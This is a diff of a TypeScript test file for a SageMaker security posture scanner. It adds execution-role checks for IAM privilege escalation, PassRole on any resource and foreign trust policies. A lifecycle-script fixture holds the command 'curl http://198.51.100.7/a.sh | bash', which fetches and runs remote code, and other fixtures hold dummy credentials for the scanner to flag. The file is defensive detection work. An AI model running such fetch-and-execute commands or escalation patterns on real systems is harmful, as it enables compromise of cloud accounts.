@@ -22,9 +22,12 @@ const secure: NotebookInstance = {
   imdsMinimum: '2',
   platformIdentifier: 'notebook-al2023-v1',
 };
-const inventory = (o: Partial<Inventory> = {}): Inventory => ({ account: '111122223333', regions: ['us-east-1'], notebookInstances: [], notebookLifecycleConfigs: [], studioLifecycleConfigs: [], domains: [], endpointConfigs: [], models: [], gaps: [], ...o });
+const inventory = (o: Partial<Inventory> = {}): Inventory => ({ account: '111122223333', regions: ['us-east-1'], notebookInstances: [], notebookLifecycleConfigs: [], studioLifecycleConfigs: [], domains: [], endpointConfigs: [], models: [],
+  userProfiles: [], spaces: [], jobs: [], executionRoles: [], modelPackageGroups: [], gaps: [], ...o });
+/** A few of IAM's "Permissions management" actions (the command reads them all from iam-data). */
+const IAM_PM = ['iam:AttachRolePolicy', 'iam:CreatePolicyVersion', 'iam:PutRolePolicy', 'iam:UpdateAssumeRolePolicy'];
 const lcc = (name: string, onStart: string) => ({ region: 'us-east-1', name, arn: `arn:aws:sagemaker:us-east-1:111122223333:notebook-instance-lifecycle-config/${name}`, scripts: [{ hook: 'OnStart', content: b64(onStart) }] });
-const failed = (inv: Inventory) => evaluatePosture(pb, inv, calls, at).findings.map((f) => `${f.checkId} ${f.resourceName}`);
+const failed = (inv: Inventory) => evaluatePosture(pb, inv, calls, at, IAM_PM).findings.map((f) => `${f.checkId} ${f.resourceName}`);
 
 describe('posture checks on an inventory built by hand', () => {
   it('a well-configured notebook fails nothing', () => {
@@ -39,7 +42,7 @@ describe('posture checks on an inventory built by hand', () => {
   });
 
   it('script findings carry the detect rule severity and scenarios', () => {
-    const r = evaluatePosture(pb, inventory({ notebookLifecycleConfigs: [lcc('x', 'curl http://198.51.100.7/a.sh | bash')] }), calls, at);
+    const r = evaluatePosture(pb, inventory({ notebookLifecycleConfigs: [lcc('x', 'curl http://198.51.100.7/a.sh | bash')] }), calls, at, IAM_PM);
     const rule = pb.rules.rules.find((x) => x.id === 'lifecycle-script-suspicious')!;
     expect(r.findings).toHaveLength(1);
     expect(r.findings[0]).toMatchObject({ checkId: 'lifecycle-script-suspicious', severity: rule.severity, scenarios: rule.scenarios });
@@ -66,7 +69,7 @@ describe('posture checks on an inventory built by hand', () => {
       'HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz0123456789',
       'db_password="correct-horse-battery"',
     ].join('\n');
-    const r = evaluatePosture(pb, inventory({ notebookLifecycleConfigs: [lcc('s', script)] }), calls, at);
+    const r = evaluatePosture(pb, inventory({ notebookLifecycleConfigs: [lcc('s', script)] }), calls, at, IAM_PM);
     const secrets = r.findings[0]!.evidence.secrets as { kind: string; masked: string; line: string }[];
     expect(secrets.map((s) => s.kind)).toEqual(['AWS access key id', 'credentials in a URL', 'Hugging Face token', 'password or token', 'password or token']);
     expect(JSON.stringify(r)).not.toMatch(/AKIAIOSFODNN7EXAMPLE|s3cretPassw0rd|correct-horse-battery|hf_abcdefghijklmnopqrstuvwxyz0123456789/);
@@ -89,6 +92,7 @@ describe('posture checks on an inventory built by hand', () => {
       inventory({ gaps: [{ resource: 'notebook-lifecycle-config', region: 'us-east-1', service: 'sagemaker', operation: 'ListNotebookInstanceLifecycleConfigs', permission: 'sagemaker:ListNotebookInstanceLifecycleConfigs', code: 'AccessDeniedException', message: 'denied' }] }),
       calls,
       at,
+      IAM_PM,
     );
     expect(r.partial).toBe(true);
     const notRead = Object.fromEntries(r.checks.map((c) => [c.id, c.notReadIn]));
@@ -98,7 +102,7 @@ describe('posture checks on an inventory built by hand', () => {
   });
 
   it('fix commands: contain with the resource and region, prepare with the opt-in guardrail named', () => {
-    const r = evaluatePosture(pb, inventory({ notebookInstances: [{ ...secure, name: 'nb1', rootAccess: 'Enabled', imdsMinimum: '1' }] }), calls, at);
+    const r = evaluatePosture(pb, inventory({ notebookInstances: [{ ...secure, name: 'nb1', rootAccess: 'Enabled', imdsMinimum: '1' }] }), calls, at, IAM_PM);
     const commands = r.findings.flatMap((f) => f.fixes.map((x) => x.command));
     expect(commands).toContain('sm-ir contain disable-root-access nb1 --region us-east-1');
     expect(commands).toContain('sm-ir prepare --target <root|OU|account> --guardrails require-imdsv2');
@@ -137,5 +141,34 @@ describe('posture data (playbook/posture.json)', () => {
     expect(() => data([{ ...base, severity: undefined }])).toThrow('either detectRule or both severity and scenarios');
     // A guardrail that does not deny the calls writing that kind of resource prevents nothing there.
     expect(refs({ fixes: [{ by: 'prepare', guardrail: 'studio-vpc-only' }] })).toThrow("guardrail 'studio-vpc-only' denies none of CreateNotebookInstance, UpdateNotebookInstance");
+  });
+});
+
+describe('execution-role checks: what the role\'s policies grant, as IAM evaluates them', () => {
+  const role = (policies: { source: string; document: unknown }[], trust: unknown = { Statement: [{ Effect: 'Allow', Principal: { Service: 'sagemaker.amazonaws.com' }, Action: 'sts:AssumeRole' }] }) => ({
+    region: 'global', name: 'r', arn: 'arn:aws:iam::111122223333:role/r', usedBy: ['model us-east-1/m'], trust, policies,
+  });
+  const allow = (action: unknown, resource: unknown = '*', extra: Record<string, unknown> = {}) => ({ source: 'inline p', document: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: action, Resource: resource, ...extra }] } });
+  const fails = (r: ReturnType<typeof role>) => failed(inventory({ executionRoles: [r] })).map((f) => f.split(' ')[0]).sort();
+
+  it('SageMaker on its own buckets passes every check', () => {
+    expect(fails(role([allow(['sagemaker:*', 's3:GetObject'], ['arn:aws:s3:::models-111122223333/*', '*'])]))).toEqual([]);
+  });
+  it('"*" and NotAction are every action; iam wildcards reach the permissions-management actions', () => {
+    expect(fails(role([allow('*')]))).toEqual(['execution-role-assume-any', 'execution-role-full-access', 'execution-role-iam-escalation', 'execution-role-passrole-any']);
+    expect(fails(role([{ source: 'inline p', document: { Statement: { Effect: 'Allow', NotAction: 's3:*', Resource: '*' } } }]))).toContain('execution-role-full-access');
+    expect(fails(role([allow('IAM:Put*')]))).toEqual(['execution-role-iam-escalation']);
+    // A URL-encoded string, as IAM returns it, decoded by the reader; here a JSON string is parsed too.
+    expect(fails(role([{ source: 'inline p', document: JSON.stringify({ Statement: [{ Effect: 'Allow', Action: 'iam:PassRole', Resource: '*' }] }) }]))).toEqual(['execution-role-passrole-any']);
+  });
+  it('PassRole and AssumeRole on named resources pass; Deny statements grant nothing', () => {
+    expect(fails(role([allow(['iam:PassRole', 'sts:AssumeRole'], 'arn:aws:iam::111122223333:role/training')]))).toEqual([]);
+    expect(fails(role([{ source: 'inline p', document: { Statement: [{ Effect: 'Deny', Action: '*', Resource: '*' }] } }]))).toEqual([]);
+  });
+  it('a trust policy naming another account, or anyone, fails; the account itself and services pass', () => {
+    const trust = (principal: unknown) => ({ Statement: [{ Effect: 'Allow', Principal: principal, Action: 'sts:AssumeRole' }] });
+    expect(fails(role([], trust({ AWS: 'arn:aws:iam::444455556666:root' })))).toEqual(['execution-role-trust-foreign']);
+    expect(fails(role([], trust('*')))).toEqual(['execution-role-trust-foreign']);
+    expect(fails(role([], trust({ AWS: ['111122223333'], Service: 'sagemaker.amazonaws.com' })))).toEqual([]);
   });
 });
